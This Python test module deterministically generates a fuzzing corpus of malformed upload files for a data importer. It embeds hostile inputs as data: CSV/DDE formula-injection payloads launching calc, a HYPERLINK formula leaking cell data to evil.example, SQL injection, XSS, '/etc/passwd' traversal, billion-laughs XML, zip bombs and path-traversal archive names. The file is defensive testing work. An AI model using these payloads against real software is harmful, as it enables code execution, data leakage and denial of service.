"""A deterministic corpus of malformed input files, generated at test time (nothing is committed).

``corpus()`` yields ``Sample(name, data, family)`` — at least 1,000 of them, the same bytes on every
run (one seeded ``random.Random``). Families: csv, xlsx, geojson, shapefile-zip, zip, image, binary.
Each sample is a file a user or an attacker could upload: truncated, wrongly encoded, garbage,
huge fields, formula injection, zip bombs within the upload limit, BOMs, mixed delimiters, NUL bytes,
deeply nested JSON, invalid geometries, and content that contradicts its extension.
"""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

SEED = 20261202

# Columns the importers look for, so that many samples get past the header into row validation.
HEADERS = {
    "observations": ["indicator", "area", "period", "value"],
    "indicators": ["code", "name", "dimension", "unit", "direction", "aggregation"],
    "incidents": ["occurred_at", "category", "lat", "lon"],
    "population": ["area", "year", "population"],
}
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
NASTY_TEXT = [
    "",
    " ",
    "\u0000",
    "NaN",
    "inf",
    "-inf",
    "1e309",
    "-0",
    "1,2,3",
    "1.234,5.6",
    "٣",  # an Arabic-Indic digit
    "\u202e1",  # right-to-left override
    "2024-13",
    "2024-02-30",
    "0000-00-00",
    "9999-99-99T99:99",
    "99999999999999999999999999",
    "'; DROP TABLE places_area; --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "%s%s%s%n",
    "{area}{area}",
    "😀" * 50,
    "x" * 300,
]


@dataclass(frozen=True)
class Sample:
    name: str
    data: bytes
    family: str


def _csv(rows: list[list[str]], delimiter: str = ",", newline: str = "\n") -> str:
    out = []
    for row in rows:
        cells = []
        for cell in row:
            if any(ch in cell for ch in (delimiter, '"', "\n", "\r")):
                cell = '"' + cell.replace('"', '""') + '"'
            cells.append(cell)
        out.append(delimiter.join(cells))
    return newline.join(out) + newline


def _valid_rows(kind: str, rng: random.Random, n: int) -> list[list[str]]:
    rows = []
    for i in range(n):
        if kind == "observations":
            rows.append(["homicide-rate", f"A{i % 3 + 1}", str(2000 + i), str(rng.randint(0, 99))])
        elif kind == "indicators":
            rows.append([f"fuzz-{i}", f"Fuzz {i}", "personal", "per 100k", "higher_is_worse", "sum"])
        elif kind == "incidents":
            rows.append([f"2024-01-{i % 28 + 1:02d}T10:00", "robbery", f"{19 + rng.random() / 100}", "-98.19"])
        else:
            rows.append([f"A{i % 3 + 1}", str(2000 + i), str(rng.randint(1, 9999))])
    return rows


def _csv_samples(rng: random.Random) -> Iterator[Sample]:
    for kind, header in HEADERS.items():
        good = _csv([header, *_valid_rows(kind, rng, 6)]).encode()
        # Truncated at every few bytes (mid-quote, mid-row, mid-multibyte).
        for cut in range(1, len(good), max(1, len(good) // 25)):
            yield Sample(f"{kind}-truncated-{cut}.csv", good[:cut], "csv")
        # One nasty value in each column.
        for col in range(len(header)):
            for text in NASTY_TEXT:
                rows = _valid_rows(kind, rng, 3)
                rows[1][col] = text
                yield Sample(f"{kind}-nasty-{col}-{NASTY_TEXT.index(text)}.csv", _csv([header, *rows]).encode(), "csv")
        # Formula injection in every column.
        for col in range(len(header)):
            for j, formula in enumerate(FORMULAS):
                rows = _valid_rows(kind, rng, 3)
                rows[0][col] = formula
                yield Sample(f"{kind}-formula-{col}-{j}.csv", _csv([header, *rows]).encode(), "csv")
        text = _csv([header, *_valid_rows(kind, rng, 4)])
        encodings = {
            "bom-utf8": b"\xef\xbb\xbf" + text.encode(),
            "double-bom": b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode(),
            "utf16-le-bom": text.encode("utf-16"),
            "utf16-no-bom": text.encode("utf-16-le"),
            "utf32": text.encode("utf-32"),
            "utf7": text.replace("A1", "Ä1").encode("utf-7"),
            "latin1-in-utf8": text.encode() + "Peñalolén,ñ,ü,2024\n".encode("latin-1"),
            "invalid-utf8": text.encode() + b"\xc3\x28,\xa0\xa1,\xe2\x28\xa1,\xf0\x28\x8c\xbc\n",
            "overlong-utf8": text.encode() + b"\xc0\xaf,\xe0\x80\xaf,1,2\n",
            "cp1252-smart-quotes": text.encode() + "\u201cx\u201d,\u2013,1,2\n".encode("cp1252"),
            "ebcdic": text.encode("cp500"),
            "gb18030": (text + "中文,中文,2024,1\n").encode("gb18030"),
        }
        for label, data in encodings.items():
            yield Sample(f"{kind}-{label}.csv", data, "csv")
        lines = text.splitlines()
        structural = {
            "mixed-delimiters": "\n".join(
                [lines[0], lines[1].replace(",", ";"), lines[2].replace(",", "\t"), lines[3].replace(",", "|")]
            ),
            "semicolon-header-comma-rows": lines[0].replace(",", ";") + "\n" + "\n".join(lines[1:]),
            "cr-only": "\r".join(lines),
            "crlf-mixed": "\r\n".join(lines[:2]) + "\n" + "\r".join(lines[2:]),
            "nul-bytes": text.replace(",", ",\x00", 3),
            "nul-in-header": "\x00".join(lines[0]) + "\n" + "\n".join(lines[1:]),
            "unbalanced-quote": lines[0] + '\n"' + "\n".join(lines[1:]),
            "quote-in-unquoted": lines[0] + '\nab"c,d"e,"f,g\n',
            "extra-fields": lines[0] + "\n" + lines[1] + ",extra,more,stuff\n",
            "missing-fields": lines[0] + "\nonly-one\n",
            "duplicate-header": lines[0] + "," + lines[0].split(",")[0] + "\n" + lines[1] + ",x\n",
            "empty-header": ",,,\n" + "\n".join(lines[1:]),
            "header-only": lines[0] + "\n",
            "blank-lines-only": "\n\n\n\n",
            "whitespace-header": "   \t  \n" + "\n".join(lines[1:]),
            "hxl-only": "#indicator,#adm1,#date,#value\n#x,#y,#z,#w\n",
            "many-columns": ",".join(f"c{i}" for i in range(600)) + "\n" + ",".join("1" for _ in range(600)) + "\n",
            "huge-field": lines[0] + "\n" + "x" * 140_000 + ",A1,2024,1\n",
            "huge-quoted-field": lines[0] + '\n"' + "y" * 140_000 + '",A1,2024,1\n',
            "huge-header": "h" * 140_000 + "\n1\n",
            "field-at-limit": lines[0] + "\n" + "z" * 131_072 + ",A1,2024,1\n",
            "many-rows-all-bad": lines[0] + "\n" + "bad,bad,bad,bad\n" * 20_000,
            "sql-injection-header": "indicator'--,area;DROP,period,value\n" + "\n".join(lines[1:]),
            "html-header": "<b>indicator</b>,<i>area</i>,period,value\n" + "\n".join(lines[1:]),
            "newline-in-field": lines[0] + '\n"multi\nline",A1,2024,1\n',
            "trailing-delimiters": "\n".join(line + ",,,," for line in lines),
        }
        for label, body in structural.items():
            yield Sample(f"{kind}-{label}.csv", body.encode("utf-8", "surrogatepass"), "csv")
        # Random printable and random binary noise after a good header.
        for i in range(12):
            noise = "".join(rng.choice(",;\t|\"'\n\r =+-@0123456789abcdefé\\") for _ in range(rng.randint(1, 400)))
            yield Sample(f"{kind}-noise-{i}.csv", (lines[0] + "\n" + noise).encode(), "csv")
        for i in range(6):
            yield Sample(f"{kind}-binary-after-header-{i}.csv", lines[0].encode() + b"\n" + rng.randbytes(300), "csv")


def _xlsx(rows: list[list[object]], *, formulas: bool = False) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    if formulas:
        sheet["D2"] = "=1/0"
        sheet["B3"] = '=HYPERLINK("http://evil.example","x")'
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _xlsx_samples(rng: random.Random) -> Iterator[Sample]:
    from datetime import datetime

    for kind, header in HEADERS.items():
        good_rows: list[list[object]] = [header, *_valid_rows(kind, rng, 5)]
        good = _xlsx(good_rows)
        yield Sample(f"{kind}-formulas.xlsx", _xlsx(good_rows, formulas=True), "xlsx")
        for cut in (10, 100, 500, len(good) // 2, len(good) - 22, len(good) - 1):
            yield Sample(f"{kind}-truncated-{cut}.xlsx", good[:cut], "xlsx")
        typed: list[list[object]] = [header]
        naive = datetime(2024, 1, 1)  # noqa: DTZ001 — Excel cells have no time zone
        for value in (True, naive, -1e308, float("nan"), "x" * 32_000, None, 0, "=A1"):
            typed.append([value] * len(header))
        yield Sample(f"{kind}-odd-types.xlsx", _xlsx(typed), "xlsx")
        yield Sample(f"{kind}-empty-sheet.xlsx", _xlsx([]), "xlsx")
        yield Sample(f"{kind}-header-only.xlsx", _xlsx([header]), "xlsx")
        yield Sample(f"{kind}-many-columns.xlsx", _xlsx([[f"c{i}" for i in range(700)], [1] * 700]), "xlsx")
        yield Sample(f"{kind}-xlsx-named-csv.csv", good, "xlsx")
        # A zip that claims to be a workbook but whose parts are garbage.
        fake = io.BytesIO()
        with zipfile.ZipFile(fake, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types>not really</Types>")
            archive.writestr("xl/workbook.xml", rng.randbytes(200))
            archive.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row><c>")
        yield Sample(f"{kind}-fake-workbook.xlsx", fake.getvalue(), "xlsx")
        # Billion laughs in a sheet's XML (openpyxl must refuse entity expansion).
        laughs = io.BytesIO()
        with zipfile.ZipFile(good and io.BytesIO(good)) as source, zipfile.ZipFile(laughs, "w") as archive:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename == "xl/worksheets/sheet1.xml":
                    data = (
                        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row>'
                        b"</sheetData></worksheet>"
                    )
                archive.writestr(item, data)
        yield Sample(f"{kind}-entity-expansion.xlsx", laughs.getvalue(), "xlsx")
        for i in range(4):
            corrupted = bytearray(good)
            for _ in range(20):
                corrupted[rng.randrange(len(corrupted))] = rng.randrange(256)
            yield Sample(f"{kind}-bitflips-{i}.xlsx", bytes(corrupted), "xlsx")


def _feature(geometry: object, properties: object | None = None) -> dict:
    return {
        "type": "Feature",
        "properties": properties if properties is not None else {"code": "Z1", "name": "Z"},
        "geometry": geometry,
    }


def _collection(*features: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}, allow_nan=True).encode()


def _square(x: float = -98.2, y: float = 19.0, size: float = 0.01) -> list[list[float]]:
    return [[x, y], [x + size, y], [x + size, y + size], [x, y + size], [x, y]]


def _circle(n: int) -> list[list[float]]:
    import math

    ring = [
        [-98.2 + 0.01 * math.cos(2 * math.pi * i / n), 19.0 + 0.01 * math.sin(2 * math.pi * i / n)] for i in range(n)
    ]
    return [*ring, ring[0]]


def _geojson_samples(rng: random.Random) -> Iterator[Sample]:
    nan = float("nan")
    geometries: dict[str, object] = {
        "bowtie": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]},
        "unclosed-ring": {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1]]]},
        "two-points": {"type": "Polygon", "coordinates": [[[0, 0], [1, 0]]]},
        "empty-ring": {"type": "Polygon", "coordinates": [[]]},
        "no-rings": {"type": "Polygon", "coordinates": []},
        "nan-coords": {"type": "Polygon", "coordinates": [[[nan, 0], [1, 0], [1, 1], [nan, 0]]]},
        "inf-coords": {"type": "Point", "coordinates": [float("inf"), 1]},
        "out-of-range": {"type": "Polygon", "coordinates": [_square(500, 500)]},
        "projected-metres": {"type": "Polygon", "coordinates": [_square(500000, 2100000, 1000)]},
        "string-coords": {"type": "Polygon", "coordinates": [[["a", "b"], ["c", "d"], ["e", "f"], ["a", "b"]]]},
        "nested-too-deep": {"type": "Polygon", "coordinates": [[[[[0, 0]]]]]},
        "point-1d": {"type": "Point", "coordinates": [1]},
        "point-empty": {"type": "Point", "coordinates": []},
        "unknown-type": {"type": "Hexagon", "coordinates": [[0, 0]]},
        "lowercase-type": {"type": "polygon", "coordinates": [_square()]},
        "null": None,
        "string": "POLYGON((0 0,1 0,1 1,0 0))",
        "number": 42,
        "collection-of-nothing": {"type": "GeometryCollection", "geometries": []},
        "collection-nested": {
            "type": "GeometryCollection",
            "geometries": [{"type": "GeometryCollection", "geometries": []}],
        },
        "hole-outside-shell": {"type": "Polygon", "coordinates": [_square(), _square(10, 10)]},
        "zero-area": {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [2, 2], [0, 0]]]},
        "linestring": {"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
        "multipolygon-bad": {"type": "MultiPolygon", "coordinates": [[[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]]},
        # A valid ring of 20,000 vertices; a small tangle of self-intersections (repaired); a random ring
        # of 2,000 vertices (~500,000 crossings: its repair took minutes before the importer bounded the
        # crossings; now refused with a reason, docs/security.md).
        "many-vertices": {"type": "Polygon", "coordinates": [_circle(20_000)]},
        "tangle": {
            "type": "Polygon",
            "coordinates": [
                [*([-98.2 + rng.random() / 100, 19 + rng.random() / 100] for _ in range(24)), [-98.2, 19.0]]
            ],
        },
        "huge-tangle": {
            "type": "Polygon",
            "coordinates": [
                [*([-98.2 + rng.random() / 100, 19 + rng.random() / 100] for _ in range(2_000)), [-98.2, 19.0]]
            ],
        },
        "4d-coords": {"type": "Point", "coordinates": [1, 2, 3, 4, 5]},
    }
    for label, geometry in geometries.items():
        yield Sample(f"areas-{label}.geojson", _collection(_feature(geometry)), "geojson")
        yield Sample(f"areas-{label}-bare.geojson", json.dumps(_feature(geometry), allow_nan=True).encode(), "geojson")
    properties: dict[str, object] = {
        "no-properties": None,
        "empty-properties": {},
        "code-null": {"code": None, "name": "x"},
        "code-list": {"code": [1, 2], "name": "x"},
        "code-object": {"code": {"a": 1}, "name": "x"},
        "code-huge": {"code": "c" * 100_000, "name": "x"},
        "name-huge": {"code": "Z9", "name": "n" * 100_000},
        "code-formula": {"code": "=1+1", "name": '=HYPERLINK("x")'},
        "population-nan": {"code": "Z8", "name": "x", "population": "NaN"},
        "population-negative": {"code": "Z7", "name": "x", "population": -5},
        "population-huge": {"code": "Z6", "name": "x", "population": 10**30},
        "parent-self": {"code": "Z5", "name": "x", "parent": "Z5"},
        "parent-missing": {"code": "Z4", "name": "x", "parent": "NOPE"},
        "nul-code": {"code": "Z\u00003", "name": "x"},
    }
    for label, props in properties.items():
        geometry = {"type": "Polygon", "coordinates": [_square()]}
        feature = {"type": "Feature", "geometry": geometry}
        if props is not None:
            feature["properties"] = props
        yield Sample(f"areas-{label}.geojson", _collection(feature), "geojson")
    valid = _collection(_feature({"type": "Polygon", "coordinates": [_square()]}))
    duplicates = _collection(
        _feature({"type": "Polygon", "coordinates": [_square()]}, {"code": "D", "name": "d"}),
        _feature({"type": "Polygon", "coordinates": [_square(-98.1)]}, {"code": "D", "name": "e"}),
    )
    yield Sample("areas-duplicate-codes.geojson", duplicates, "geojson")
    for cut in range(1, len(valid), max(1, len(valid) // 20)):
        yield Sample(f"areas-truncated-{cut}.geojson", valid[:cut], "geojson")
    structural = {
        "deeply-nested-arrays": b"[" * 100_000 + b"]" * 100_000,
        "deeply-nested-objects": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "nested-unclosed": b"[" * 200_000,
        "features-not-list": b'{"type":"FeatureCollection","features":{"a":1}}',
        "features-null": b'{"type":"FeatureCollection","features":null}',
        "features-strings": b'{"type":"FeatureCollection","features":["a","b"]}',
        "empty-collection": b'{"type":"FeatureCollection","features":[]}',
        "top-level-list": b"[1,2,3]",
        "top-level-string": b'"FeatureCollection"',
        "empty-object": b"{}",
        "nan-literal": b'{"type":"FeatureCollection","features":[NaN]}',
        "huge-number": b'{"type":"Feature","geometry":{"type":"Point","coordinates":[1' + b"0" * 5000 + b",1]}}",
        "duplicate-keys": b'{"type":"FeatureCollection","type":"Feature","features":[]}',
        "trailing-garbage": valid + b"\x00\xff garbage",
        "bom-utf8": b"\xef\xbb\xbf" + valid,
        "utf16": valid.decode().encode("utf-16"),
        "latin1-props": valid.replace(b'"Z"', '"Peñalolén"'.encode("latin-1")),
        "invalid-utf8": valid.replace(b'"Z"', b'"\xc3\x28"'),
        "comments": b"// a comment\n" + valid,
        "single-quotes": valid.replace(b'"', b"'"),
        "crs-bogus": json.dumps(
            {
                "type": "FeatureCollection",
                "crs": {"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::99999999"}},
                "features": [],
            }
        ).encode(),
        "crs-injection": json.dumps(
            {
                "type": "FeatureCollection",
                "crs": {"type": "name", "properties": {"name": "+proj=longlat +init=/etc/passwd"}},
                "features": json.loads(valid)["features"],
            }
        ).encode(),
        "lone-surrogate": valid.replace(b'"Z"', b'"\\ud800"'),
        "nul-escaped": valid.replace(b'"Z"', b'"\\u0000"'),
    }
    for label, data in structural.items():
        yield Sample(f"areas-{label}.geojson", data, "geojson")
    for i in range(15):
        data = bytearray(valid)
        for _ in range(rng.randint(1, 8)):
            data[rng.randrange(len(data))] = rng.choice(b'{}[],:"0123456789.-eE \x00\xff')
        yield Sample(f"areas-mutated-{i}.geojson", bytes(data), "geojson")


def _zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _shp_header(shape_type: int = 5, length_words: int = 50) -> bytes:
    header = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, length_words)
    header += struct.pack("<2i", 1000, shape_type)
    header += struct.pack("<8d", -98.2, 19.0, -98.1, 19.1, 0, 0, 0, 0)
    return header


def _dbf(fields: list[tuple[str, str, int]], records: list[list[bytes]]) -> bytes:
    header_len = 32 + 32 * len(fields) + 1
    record_len = 1 + sum(size for _n, _t, size in fields)
    out = struct.pack("<BBBBIHH20x", 3, 124, 1, 1, len(records), header_len, record_len)
    for name, kind, size in fields:
        out += struct.pack("<11sc4xBB14x", name.encode()[:11], kind.encode(), size, 0)
    out += b"\r"
    for record in records:
        out += b" " + b"".join(value.ljust(size)[:size] for value, (_n, _t, size) in zip(record, fields, strict=False))
    return out + b"\x1a"


def _shapefile_samples(rng: random.Random) -> Iterator[Sample]:
    shp = _shp_header()
    shx = _shp_header(length_words=50)
    dbf = _dbf([("CODE", "C", 10), ("NAME", "C", 20)], [[b"S1", b"Station"]])
    prj = (
        b'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],'
        b'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'
    )
    cases: dict[str, dict[str, bytes]] = {
        "header-only": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.prj": prj},
        "missing-dbf": {"a.shp": shp, "a.shx": shx},
        "missing-shx": {"a.shp": shp, "a.dbf": dbf},
        "only-shp": {"a.shp": shp},
        "garbage-shp": {"a.shp": rng.randbytes(500), "a.shx": rng.randbytes(100), "a.dbf": rng.randbytes(100)},
        "garbage-dbf": {"a.shp": shp, "a.shx": shx, "a.dbf": rng.randbytes(300)},
        "garbage-prj": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.prj": b"PROJCS[nonsense"},
        "prj-injection": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.prj": b"+init=/etc/passwd"},
        "wrong-shape-type": {"a.shp": _shp_header(shape_type=99), "a.shx": shx, "a.dbf": dbf},
        "negative-length": {"a.shp": _shp_header(length_words=-1), "a.shx": shx, "a.dbf": dbf},
        "huge-length": {"a.shp": _shp_header(length_words=2**30) + rng.randbytes(64), "a.shx": shx, "a.dbf": dbf},
        "mismatched-names": {"a.shp": shp, "b.shx": shx, "c.dbf": dbf},
        "path-traversal": {"../../evil.shp": shp, "../../evil.shx": shx, "../../evil.dbf": dbf},
        "absolute-path": {"/tmp/evil.shp": shp, "/tmp/evil.shx": shx, "/tmp/evil.dbf": dbf},
        "nested-dir": {"deep/er/a.shp": shp, "deep/er/a.shx": shx, "deep/er/a.dbf": dbf},
        "two-shapefiles": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "b.shp": shp, "b.shx": shx, "b.dbf": dbf},
        "uppercase": {"A.SHP": shp, "A.SHX": shx, "A.DBF": dbf},
        "dbf-many-fields": {
            "a.shp": shp,
            "a.shx": shx,
            "a.dbf": _dbf([(f"F{i}", "C", 1) for i in range(255)], [[b"x"] * 255]),
        },
        "dbf-record-count-lies": {
            "a.shp": shp,
            "a.shx": shx,
            "a.dbf": dbf.replace(b"\x01\x00\x00\x00", b"\xff\xff\xff\x7f", 1),
        },
        "cpg-bogus": {"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.cpg": b"no-such-encoding-\x00"},
        "symlink-like-name": {"a.shp\x00.txt": shp},
    }
    for label, members in cases.items():
        try:
            yield Sample(f"shape-{label}.zip", _zip(members), "shapefile-zip")
        except ValueError:  # a name zipfile refuses to write (NUL)
            continue
    # Zip bombs within the upload limit: a few hundred KB that expand to 64 MB.
    zeros = b"\x00" * (64 * 1024 * 1024)
    yield Sample("bomb-shp.zip", _zip({"a.shp": zeros, "a.shx": shx, "a.dbf": dbf}), "shapefile-zip")
    yield Sample("bomb-dbf.zip", _zip({"a.shp": shp, "a.shx": shx, "a.dbf": zeros}), "shapefile-zip")
    yield Sample("bomb-many-members.zip", _zip({f"f{i}.shp": b"" for i in range(5_000)}), "shapefile-zip")
    inner = _zip({"a.shp": shp, "a.shx": shx, "a.dbf": dbf})
    yield Sample("zip-in-zip.zip", _zip({"inner.zip": inner}), "zip")
    yield Sample("zip-no-shapefile.zip", _zip({"readme.txt": b"hello"}), "zip")
    yield Sample("zip-empty.zip", _zip({}), "zip")
    yield Sample("zip-stored-bomb.zip", _zip({"a.csv": b"a,b\n" * 1_000_000}), "zip")
    good = _zip({"a.shp": shp, "a.shx": shx, "a.dbf": dbf, "a.prj": prj})
    for cut in (4, 30, 100, len(good) // 2, len(good) - 10):
        yield Sample(f"shape-truncated-{cut}.zip", good[:cut], "shapefile-zip")
    # Central directory that lies about sizes (a crafted "zip bomb" header) and a bad CRC.
    lying = bytearray(good)
    index = lying.rfind(b"PK\x01\x02")
    if index > 0:
        lying[index + 24 : index + 28] = struct.pack("<I", 0xFFFFFFF0)
    yield Sample("shape-lying-sizes.zip", bytes(lying), "shapefile-zip")
    bad_crc = bytearray(good)
    bad_crc[14:18] = b"\xde\xad\xbe\xef"
    yield Sample("shape-bad-crc.zip", bytes(bad_crc), "shapefile-zip")
    yield Sample("shape-as-geojson.geojson", good, "shapefile-zip")
    yield Sample("shape-as-csv.csv", good, "shapefile-zip")


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + b"\x7f\x00\x00" * width for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def image_samples(rng: random.Random | None = None) -> Iterator[Sample]:
    """Images, broken images and things pretending to be images (also used for photo cleaners)."""
    rng = rng or random.Random(SEED + 1)
    png = _png(8, 8)
    jpeg_head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    samples = {
        "tiny.png": png,
        "truncated.png": png[: len(png) // 2],
        "header-only.png": png[:16],
        "bad-crc.png": png[:30] + b"\x00\x00\x00\x00" + png[34:],
        "huge-dimensions.png": _png(1, 1).replace(struct.pack(">II", 1, 1), struct.pack(">II", 2**31 - 1, 2**31 - 1)),
        "decompression-bomb.png": _png(6000, 6000),
        "jpeg-head-only.jpg": jpeg_head,
        "jpeg-garbage.jpg": jpeg_head + rng.randbytes(500),
        "gif-header.gif": b"GIF89a" + rng.randbytes(50),
        "svg-script.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "html-as-png.png": b"<html><script>alert(1)</script></html>",
        "polyglot-png-zip.png": png + _zip({"a.shp": b"x"}),
        "png-as-csv.csv": png,
        "png-as-geojson.geojson": png,
        "png-as-xlsx.xlsx": png,
        "jpeg-as-zip.zip": jpeg_head + rng.randbytes(100),
        "empty.png": b"",
    }
    for name, data in samples.items():
        yield Sample(f"image-{name}", data, "image")


def _binary_samples(rng: random.Random) -> Iterator[Sample]:
    extensions = [".csv", ".xlsx", ".geojson", ".json", ".zip", ".gpkg", ".txt", ".tsv", ".bin", ""]
    magic = [
        b"",
        b"PK\x03\x04",
        b"SQLite format 3\x00",
        b"\xef\xbb\xbf",
        b"{",
        b"[",
        b"\xff\xfe",
        b"%PDF-1.4",
        b"\x7fELF",
        b"MZ",
        b"\x1f\x8b\x08",
    ]
    for i in range(60):
        size = rng.choice([1, 2, 3, 17, 511, 4096, 4097, 70_000])
        data = rng.choice(magic) + rng.randbytes(size)
        yield Sample(f"garbage-{i}{extensions[i % len(extensions)]}", data, "binary")
    yield Sample("empty.csv", b"", "binary")
    yield Sample("only-bom.csv", b"\xef\xbb\xbf", "binary")
    yield Sample("only-nuls.csv", b"\x00" * 5000, "binary")
    yield Sample("only-newlines.geojson", b"\n" * 5000, "binary")
    yield Sample("gzip-as-csv.csv", b"\x1f\x8b\x08\x00" + zlib.compress(b"indicator,area\n" * 100), "binary")
    sqlite_fake = b"SQLite format 3\x00" + rng.randbytes(4000)
    yield Sample("fake-geopackage.gpkg", sqlite_fake, "binary")
    yield Sample("fake-geopackage-as-csv.csv", sqlite_fake, "binary")


def corpus() -> list[Sample]:
    """Every sample, in a fixed order; names are unique."""
    rng = random.Random(SEED)
    samples = [
        *_csv_samples(rng),
        *_xlsx_samples(rng),
        *_geojson_samples(rng),
        *_shapefile_samples(rng),
        *image_samples(random.Random(SEED + 1)),
        *_binary_samples(rng),
    ]
    seen: dict[str, int] = {}
    unique = []
    for sample in samples:
        count = seen.get(sample.name, 0)
        seen[sample.name] = count + 1
        name = sample.name if not count else f"{count}-{sample.name}"
        unique.append(Sample(name, sample.data, sample.family))
    return unique
